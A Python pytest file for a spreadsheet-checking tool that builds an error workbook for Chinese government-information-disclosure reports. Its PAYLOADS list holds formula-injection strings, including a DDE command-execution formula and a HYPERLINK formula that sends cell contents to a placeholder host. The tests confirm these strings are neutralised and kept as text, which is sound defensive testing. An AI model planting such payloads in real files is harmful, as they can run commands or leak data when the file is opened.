"""The error workbook: findings listed and linked, offending cells painted and commented, the
office's values kept exactly (text stays text), protection as in the template, no injected formula."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import openpyxl
import pytest

from xlcheck.findings import Finding
from xlcheck.form import Form
from xlcheck.form.model import Text
from xlcheck.xlsxout import needs_guard, neutralise, write_error_workbook
from xlcheck.xlsxout.styles import ERROR_FILL, WARNING_FILL

T3 = "三、依申请公开"
PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1+1",
    "-1+1",
    "＝1+1",
    "\t=1",
]
FINDINGS = [
    Finding(
        code="R1",
        severity="error",
        message=Text("表三「自然人」列：不平，相差 1。", "Table 3, natural persons: off by 1."),
        rule="R1",
        sheet=T3,
        cell="D4",
        table=Text("表三", "Table 3"),
        row_label=Text("一、本年新收政府信息公开申请数量", "new"),
        col_label=Text("自然人", "natural persons"),
    ),
    Finding(
        code="W1",
        severity="warning",
        message=Text("结转下年度多于本年新收，请核实。", "carried forward exceeds new."),
        rule="W1",
        sheet=T3,
        cell="D4",
    ),
    Finding(
        code="V01",
        severity="warning",
        message=Text("「机关名称」为 =cmd|' /C calc'!A0，请核实。", "odd name"),
        sheet="基本信息",
        cell="B2",
        table=Text("基本信息", "Basic information"),
    ),
    Finding(
        code="S01", severity="error", message=Text("缺少「四、复议诉讼」表。", "missing sheet")
    ),
]


@pytest.fixture(scope="module")
def cells(form: Form) -> dict[str, Any]:
    raw: dict[str, Any] = {k: 0 for k, f in form.fields.items() if f.is_input and f.is_numeric}
    raw.update(
        {
            "agency.name": PAYLOADS[1],
            "agency.credit_code": "11100000000013127X",
            "agency.tier": "县级（县、县级市、区）",
            "year": 2024,
            "applications.new.natural_person": "１２",  # full-width digits typed as text
            "applications.new.commercial_enterprise": "无",
            "applications.carried_over.natural_person": None,
            "applications.new.research_institution": 3,
        }
    )
    prose = [
        k for k, f in form.fields.items() if f.type == "text" and k.startswith(("overview", "p"))
    ]
    raw.update(dict(zip(prose, PAYLOADS, strict=False)))
    return raw


@pytest.fixture(scope="module")
def book(tmp_path_factory: pytest.TempPathFactory, form: Form, cells: dict[str, Any]) -> Any:
    path = tmp_path_factory.mktemp("err") / "errors.xlsx"
    write_error_workbook(form, path, cells=cells, findings=FINDINGS, source_name="=某县.xlsx")
    return openpyxl.load_workbook(path)


def test_findings_sheet_comes_first_with_summary_and_rows(book: Any) -> None:
    assert book.sheetnames[0] == "错误清单"
    ws = book["错误清单"]
    assert ws["A1"].value == "「=某县.xlsx」共 2 个错误、2 个提示，请逐条修改后重新报送。"
    assert [c.value for c in ws[2]] == ["序号", "严重程度", "表", "行", "列", "单元格", "说明"]
    rows = [[c.value for c in row] for row in ws.iter_rows(min_row=3, max_row=6)]
    assert rows[0] == [
        1,
        "错误",
        "表三",
        "一、本年新收政府信息公开申请数量",
        "自然人",
        "D4",
        "表三「自然人」列：不平，相差 1。",
    ]
    assert rows[1][:2] == [2, "提示"] and rows[1][2] == T3  # no table text: the sheet name
    assert rows[3] == [4, "错误", "", "", "", "", "缺少「四、复议诉讼」表。"]
    assert ws["B3"].fill.fgColor.rgb.endswith(ERROR_FILL[1:])
    assert ws["B4"].fill.fgColor.rgb.endswith(WARNING_FILL[1:])


def test_cells_are_linked(book: Any) -> None:
    ws = book["错误清单"]
    assert ws["F3"].hyperlink.location == f"'{T3}'!D4"
    assert ws["F5"].hyperlink.location == "'基本信息'!B2"
    assert ws["F6"].hyperlink is None


def test_offending_cells_painted_and_commented_once(book: Any) -> None:
    cell = book[T3]["D4"]
    assert cell.fill.fgColor.rgb.endswith(ERROR_FILL[1:])  # error wins over the warning
    assert cell.comment.text.splitlines() == [
        "【错误】表三「自然人」列：不平，相差 1。",
        "【提示】结转下年度多于本年新收，请核实。",
    ]
    name = book["基本信息"]["B2"]
    assert name.fill.fgColor.rgb.endswith(WARNING_FILL[1:])
    assert book[T3]["E4"].comment is None


def test_office_values_are_kept_exactly(book: Any) -> None:
    ws = book[T3]
    assert (ws["D4"].value, ws["D4"].data_type) == ("１２", "s")
    assert (ws["E4"].value, ws["E4"].data_type) == ("无", "s")
    assert ws["D5"].value is None and ws["F4"].value == 3
    assert ws["J4"].value == "=SUM(D4:I4)"  # formula cells are formulas again
    basic = book["基本信息"]
    assert basic["B5"].value == "县级（县、县级市、区）" and basic["B6"].value == 2024


def test_protection_as_in_the_template(book: Any, form: Form) -> None:
    assert book.security.lockStructure
    assert all(ws.protection.sheet for ws in book.worksheets)
    assert not book[T3]["D4"].protection.locked and book[T3]["J4"].protection.locked


def test_no_cell_is_a_formula_except_ours(book: Any, form: Form) -> None:
    ours = {(form.sheet(f.sheet).name, f.cell) for f in form.fields.values() if f.computed_by}
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f":
                    assert (ws.title, c.coordinate) in ours or str(c.value).startswith("=IF("), (
                        ws.title,
                        c.coordinate,
                        c.value,
                    )
    assert book["基本信息"]["B2"].value == PAYLOADS[1]
    assert book["基本信息"]["B2"].quotePrefix  # re-entering it keeps it text


def test_payloads_in_data_cells_stay_text(book: Any, form: Form, cells: dict[str, Any]) -> None:
    for key, value in cells.items():
        if value in PAYLOADS:
            fld = form.fields[key]
            cell = book[form.sheet(fld.sheet).name][fld.cell]
            assert (cell.value, cell.data_type) == (value, "s")
            assert cell.quotePrefix


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutralise_classic_payloads(payload: str) -> None:
    assert needs_guard(payload)
    assert neutralise(payload) == "'" + payload
    assert neutralise("表三「自然人」") == "表三「自然人」" and neutralise("") == ""


def test_listing_text_is_neutralised(tmp_path: Path, form: Form) -> None:
    findings = [
        Finding(code="X", severity="error", message=Text(p, p), sheet="?", cell=p) for p in PAYLOADS
    ]
    path = tmp_path / "e.xlsx"
    write_error_workbook(
        form, path, cells={}, findings=findings, source_name="+1+1.xlsx", lang="en"
    )
    ws = openpyxl.load_workbook(path)["Findings"]
    assert ws["A2"].value == "No."
    for row, payload in enumerate(PAYLOADS, start=3):
        assert ws.cell(row, 7).value == "'" + payload and ws.cell(row, 7).data_type == "s"
        assert ws.cell(row, 6).value == "'" + payload
